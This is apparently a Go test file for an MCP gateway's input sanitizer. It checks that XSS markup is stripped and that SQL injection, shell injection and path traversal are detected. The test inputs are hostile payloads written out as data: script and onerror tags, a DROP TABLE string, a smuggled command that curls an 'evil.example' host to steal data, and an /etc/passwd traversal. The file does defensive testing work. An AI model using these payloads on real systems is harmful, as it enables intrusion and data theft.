// Copyright 2026 The Enterprise MCP Gateway Authors
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//     http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

package sanitize

import (
	"strings"
	"testing"

	gwerrors "github.com/lanonasis/mcp-gateway/internal/errors"
)

func TestRewriteString_ContentFieldPreservesFormatting(t *testing.T) {
	in := "line one\nline two  <script>alert(1)</script>"
	out := RewriteString("content", in)
	if strings.Contains(out, "<script>") {
		t.Errorf("expected script tag stripped, got %q", out)
	}
	if !strings.Contains(out, "\n") {
		t.Errorf("expected content field to preserve newlines, got %q", out)
	}
}

func TestRewriteString_GenericFieldEscapesAndTrims(t *testing.T) {
	out := RewriteString("title", "  <b>bold</b>  ")
	if strings.HasPrefix(out, " ") || strings.HasSuffix(out, " ") {
		t.Errorf("expected trimmed output, got %q", out)
	}
	if !strings.Contains(out, "&lt;") {
		t.Errorf("expected HTML escaping, got %q", out)
	}
}

func TestRewriteString_StripsEventHandlerAttribute(t *testing.T) {
	out := RewriteString("content", `<img src=x onerror="alert(1)">`)
	if strings.Contains(out, "onerror") {
		t.Errorf("expected onerror handler stripped, got %q", out)
	}
}

func TestRewriteString_StripsJavascriptScheme(t *testing.T) {
	out := RewriteString("content", `click here: javascript:alert(1)`)
	if strings.Contains(out, "javascript:") {
		t.Errorf("expected javascript: scheme stripped, got %q", out)
	}
}

func TestFoldConfusables_CyrillicLookalike(t *testing.T) {
	// Cyrillic 'а' (U+0430) visually identical to ASCII 'a'.
	out := foldConfusables("аdmin")
	if out != "admin" {
		t.Errorf("expected Cyrillic homoglyph folded to ASCII, got %q", out)
	}
}

func TestDetect_SQLInjection(t *testing.T) {
	v := Detect("'; DROP TABLE users;--")
	if !hasCategory(v, CategorySQLInjection) {
		t.Errorf("expected sql_injection detected, got %v", v)
	}
}

func TestDetect_ShellInjection(t *testing.T) {
	v := Detect("foo; curl http://evil.example/steal")
	if !hasCategory(v, CategoryShellInjection) {
		t.Errorf("expected shell_injection detected, got %v", v)
	}
}

func TestDetect_PathTraversal(t *testing.T) {
	v := Detect("../../../../etc/passwd")
	if !hasCategory(v, CategoryPathTraversal) {
		t.Errorf("expected path_traversal detected, got %v", v)
	}
}

func TestDetect_CleanInputHasNoViolations(t *testing.T) {
	v := Detect("just a normal note about groceries")
	if len(v) != 0 {
		t.Errorf("expected no violations, got %v", v)
	}
}

func TestArguments_RejectsSQLInjectionPayload(t *testing.T) {
	args := map[string]any{"title": "ok", "content": "'; DROP TABLE users;--"}
	_, err := Arguments(args)
	if err == nil {
		t.Fatal("expected sanitizer to reject SQL injection payload")
	}
	if err.Kind != gwerrors.KindInvalidInput {
		t.Errorf("expected INVALID_INPUT, got %s", err.Kind)
	}
}

func TestArguments_PassesCleanPayload(t *testing.T) {
	args := map[string]any{"title": "ok", "content": "a perfectly normal memory"}
	rewritten, err := Arguments(args)
	if err != nil {
		t.Fatalf("expected no error, got %v", err)
	}
	if rewritten["title"] != "ok" {
		t.Errorf("expected title preserved, got %v", rewritten["title"])
	}
}

func hasCategory(violations []Violation, cat Category) bool {
	for _, v := range violations {
		if v.Category == cat {
			return true
		}
	}
	return false
}
